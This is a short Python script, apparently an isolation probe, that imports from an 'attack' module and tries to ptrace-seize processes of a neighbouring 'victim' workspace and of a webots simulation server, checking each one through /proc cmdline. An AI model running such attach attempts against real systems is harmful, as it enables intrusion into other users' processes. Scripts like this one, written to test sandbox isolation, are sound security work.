"""Traces a process of its neighbour, and of the server."""
import os

from attack import LIBC, TARGETS, attempt

SEIZE = 0x4206


def seize(pid):
    with open(f'/proc/{pid}/cmdline', 'rb') as file:
        line = file.read()
    # The same number may be somebody else in here.
    if TARGETS['victim_workspace'].encode() + b'/' not in line and b'webots-simulation-server' not in line:
        raise ProcessLookupError(3, 'another one')
    pid_of_child = os.fork()
    if pid_of_child == 0:
        # Let go of by its end.
        os._exit(0 if LIBC.ptrace(SEIZE, pid, 0, 0) == 0 else 1)
    return os.waitpid(pid_of_child, 0)[1] == 0


attempt(*(lambda pid=pid: seize(pid) for pid in TARGETS['victim_pids']))
